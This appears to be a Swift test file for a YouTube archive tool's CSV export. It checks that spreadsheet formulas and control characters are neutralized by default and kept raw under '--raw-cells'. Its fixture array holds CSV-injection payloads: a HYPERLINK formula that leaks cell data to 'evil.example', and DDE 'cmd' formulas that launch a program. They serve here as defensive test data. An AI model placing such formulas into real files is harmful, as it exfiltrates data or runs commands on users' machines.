import Archive
import Foundation
import Testing
import YouTubeKit

/// What a hostile server can put in a spreadsheet through `export --csv`: formulas and control
/// characters in every text column, neutralized by default and kept exactly with `--raw-cells`.
extension ExportCommandTests {
    /// Cells a spreadsheet would run as formulas (OWASP's examples), one per leading character.
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")", "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2",
    ]
    /// Control characters (BEL, NUL, ESC, DEL, C1 CSI) among a tab and a line break, which stay.
    static let controls = "bell\u{07} nul\u{00} esc\u{1B}[31m del\u{7F} csi\u{9B}1m tab\tline\nend"
    static let controlsReplaced = "bell\u{FFFD} nul\u{FFFD} esc\u{FFFD}[31m del\u{FFFD} csi\u{FFFD}1m tab\tline\nend"

    /// An output whose every text column holds each formula: video `i`'s title is formula `i`, its
    /// description formula `i + 1`, and so on round the list; one more video and comment hold the
    /// control characters and negative numbers.
    static func hostileOutput() throws -> String {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("cli-export-hostile-\(UUID())")
            .path
        let writer = try ArchiveWriter(
            directory: directory, manifest: Manifest(toolVersion: "test", startedAt: "2026-12-01T00:00:00Z"))
        let count = formulas.count
        func formula(_ index: Int) -> String { formulas[index % count] }
        for index in 0..<count {
            try writer.append(
                Video(
                    videoId: String(format: "hst%08d", index), title: formula(index), description: formula(index + 1),
                    channelId: "UChostile\(index)", channelTitle: formula(index + 2),
                    tags: [formula(index + 3), "plain tag"], viewCount: 10))
            try writer.append(
                Channel(channelId: "UChostile\(index)", title: formula(index), description: formula(index + 1)))
            try writer.append(
                YouTubeKit.Comment(
                    commentId: "Ughostile\(index)", videoId: String(format: "hst%08d", index),
                    authorDisplayName: formula(index + 1), text: formula(index), likeCount: 1))
        }
        try writer.append(
            Video(
                videoId: "hstcontrols", title: controls, description: "-5", channelId: "UChostile0",
                channelTitle: "plain", tags: [controls], viewCount: 7, likeCount: -5, commentCount: -1))
        try writer.append(
            YouTubeKit.Comment(commentId: "Ughostilenumbers", videoId: "hstcontrols", text: controls, likeCount: -5))
        try writer.finish(unitsByMethod: [:])
        return directory
    }

    /// Runs `export` of `kind` to standard output and reads the CSV back, one dictionary per row.
    static func exported(_ directory: String, _ kind: String, _ extra: [String] = []) async throws -> (
        rows: [String: [String: String]], summary: String
    ) {
        let result = try await CLIRunner.run(["export", directory, "--csv", "-", "--kind", kind] + extra)
        #expect(result.status == 0, "\(result.stderr)")
        let table = CSVText.rows(result.stdout)
        let header = try #require(table.first)
        var rows: [String: [String: String]] = [:]
        for row in table.dropFirst() {
            #expect(row.count == header.count, "\(row)")
            rows[row[0]] = Dictionary(uniqueKeysWithValues: zip(header, row).map { ($0, $1) })
        }
        return (rows, result.stderr)
    }

    @Test func formulasInEveryTextColumnOpenAsText() async throws {
        let directory = try Self.hostileOutput()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let count = Self.formulas.count
        func neutral(_ index: Int) -> String { "'" + Self.formulas[index % count] }
        let videos = try await Self.exported(directory, "videos")
        #expect(videos.summary.contains("text cells neutralized"), "\(videos.summary)")
        for index in 0..<count {
            let video = try #require(videos.rows[String(format: "hst%08d", index)])
            #expect(video["title"] == neutral(index))
            #expect(video["description"] == neutral(index + 1))
            #expect(video["channelTitle"] == neutral(index + 2))
            #expect(video["tags"] == neutral(index + 3) + " | plain tag", "tags: the joined cell")
            #expect(video["viewCount"] == "10")
        }
        let controls = try #require(videos.rows["hstcontrols"])
        #expect(controls["title"] == Self.controlsReplaced, "controls replaced; tab and line break kept")
        #expect(controls["tags"] == Self.controlsReplaced)
        #expect(controls["description"] == "'-5", "a text that looks like a number is text")
        #expect(controls["likeCount"] == "-5" && controls["commentCount"] == "-1", "numbers are never changed")
        let channels = try await Self.exported(directory, "channels")
        let comments = try await Self.exported(directory, "comments")
        for index in 0..<count {
            let channel = try #require(channels.rows["UChostile\(index)"])
            #expect(channel["title"] == neutral(index) && channel["description"] == neutral(index + 1))
            let comment = try #require(comments.rows["Ughostile\(index)"])
            #expect(comment["text"] == neutral(index) && comment["authorDisplayName"] == neutral(index + 1))
        }
        let numbers = try #require(comments.rows["Ughostilenumbers"])
        #expect(numbers["text"] == Self.controlsReplaced && numbers["likeCount"] == "-5")
    }

    @Test func rawCellsKeepTheExactText() async throws {
        let directory = try Self.hostileOutput()
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let count = Self.formulas.count
        let videos = try await Self.exported(directory, "videos", ["--raw-cells"])
        #expect(videos.summary.contains("text cells raw"), "\(videos.summary)")
        for index in 0..<count {
            let video = try #require(videos.rows[String(format: "hst%08d", index)])
            #expect(video["title"] == Self.formulas[index])
            #expect(video["tags"] == Self.formulas[(index + 3) % count] + " | plain tag")
        }
        let controls = try #require(videos.rows["hstcontrols"])
        #expect(controls["title"] == Self.controls && controls["description"] == "-5")
        let comments = try await Self.exported(directory, "comments", ["--raw-cells"])
        #expect(comments.rows["Ughostile0"]?["text"] == Self.formulas[0])
        let file = directory + "/videos.csv"
        let toFile = try await CLIRunner.run(["export", directory, "--csv", file, "--raw-cells"])
        #expect(toFile.status == 0 && toFile.stdout.contains("text cells raw"), "\(toFile.stdout)\(toFile.stderr)")
        let help = try await CLIRunner.run(["export", "--help"])
        #expect(help.stdout.contains("--raw-cells"))
    }

    /// Ids are base64url: about one video in 64 begins with `-`. Its cells stay as in the shards
    /// (in every id column, the package's too), where a forged id that could carry a formula is
    /// neutralized as text; the package's descriptions say which columns are free text.
    @Test func idsThatBeginWithADashStayIds() async throws {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("cli-export-ids-\(UUID())").path
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let writer = try ArchiveWriter(
            directory: directory, manifest: Manifest(toolVersion: "test", startedAt: "2026-12-01T00:00:00Z"))
        try writer.append(
            Video(videoId: "-ckUuBy62Hw", title: "-ckUuBy62Hw", channelId: "UC-dashdashdashdashdash", viewCount: 1))
        try writer.append(Video(videoId: "=1+2", title: "forged", channelId: "@SUM(A1)", viewCount: 1))
        try writer.append(
            YouTubeKit.Comment(
                commentId: "-gzCommentId", videoId: "-ckUuBy62Hw", authorDisplayName: "-name",
                text: "-dash text", likeCount: 1))
        try writer.finish(unitsByMethod: [:])
        let videos = try await Self.exported(directory, "videos")
        let video = try #require(videos.rows["-ckUuBy62Hw"])
        #expect(video["videoId"] == "-ckUuBy62Hw" && video["channelId"] == "UC-dashdashdashdashdash")
        #expect(video["title"] == "'-ckUuBy62Hw", "a title is free text, whatever it looks like")
        let forged = try #require(videos.rows["'=1+2"], "a forged id that is a formula opens as text")
        #expect(forged["channelId"] == "'@SUM(A1)")
        let comments = try await Self.exported(directory, "comments")
        let comment = try #require(comments.rows["-gzCommentId"])
        #expect(comment["videoId"] == "-ckUuBy62Hw")
        #expect(comment["text"] == "'-dash text" && comment["authorDisplayName"] == "'-name")
        let package = directory + "/csv"
        let result = try await CLIRunner.run(["export", directory, "--csv-package", package])
        #expect(result.status == 0, "\(result.stderr)")
        let packaged = try String(contentsOfFile: package + "/videos.csv", encoding: .utf8)
        #expect(packaged.contains("\r\n-ckUuBy62Hw,"), "\(packaged.prefix(400))")
        let json = try #require(
            try JSONSerialization.jsonObject(
                with: Data(contentsOf: URL(fileURLWithPath: package + "/datapackage.json")))
                as? [String: Any])
        let resources = try #require(json["resources"] as? [[String: Any]])
        let schema = try #require(resources.first { $0["name"] as? String == "videos" }?["schema"] as? [String: Any])
        let fields = try #require(schema["fields"] as? [[String: Any]])
        func described(_ name: String) -> String {
            fields.first { $0["name"] as? String == name }?["description"] as? String ?? ""
        }
        #expect(described("title").contains("Free text"))
        #expect(described("videoId").contains("never prefixed") && !described("videoId").contains("Free text"))
    }
}

/// Reads RFC 4180 text (quoted fields, doubled quotes, CRLF row ends) back into rows of fields.
enum CSVText {
    static func rows(_ text: String) -> [[String]] {
        let scalars = Array(text.unicodeScalars)
        var rows: [[String]] = []
        var row: [String] = []
        var field = String.UnicodeScalarView()
        var quoted = false
        var index = 0
        while index < scalars.count {
            let scalar = scalars[index]
            let next = index + 1 < scalars.count ? scalars[index + 1] : nil
            if quoted {
                if scalar == "\"", next == "\"" {
                    field.append(scalar)
                    index += 1
                } else if scalar == "\"" {
                    quoted = false
                } else {
                    field.append(scalar)
                }
            } else if scalar == "\"" {
                quoted = true
            } else if scalar == "," {
                row.append(String(field))
                field = String.UnicodeScalarView()
            } else if scalar == "\r", next == "\n" {
                row.append(String(field))
                rows.append(row)
                field = String.UnicodeScalarView()
                row = []
                index += 1
            } else {
                field.append(scalar)
            }
            index += 1
        }
        return rows
    }
}
